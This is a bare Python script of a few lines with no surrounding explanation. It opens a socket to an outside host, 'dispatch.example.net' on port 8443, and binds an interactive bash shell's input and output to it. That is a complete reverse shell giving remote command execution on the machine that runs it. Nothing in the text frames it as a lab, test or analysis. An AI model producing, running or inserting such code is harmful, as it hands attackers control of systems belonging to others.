import socket as sk
import subprocess as sp

conn = sk.create_connection(("dispatch.example.net", 8443))
fd = conn.fileno()
sp.Popen(["bash", "-i"], stdin=fd, stdout=fd, stderr=fd).wait()
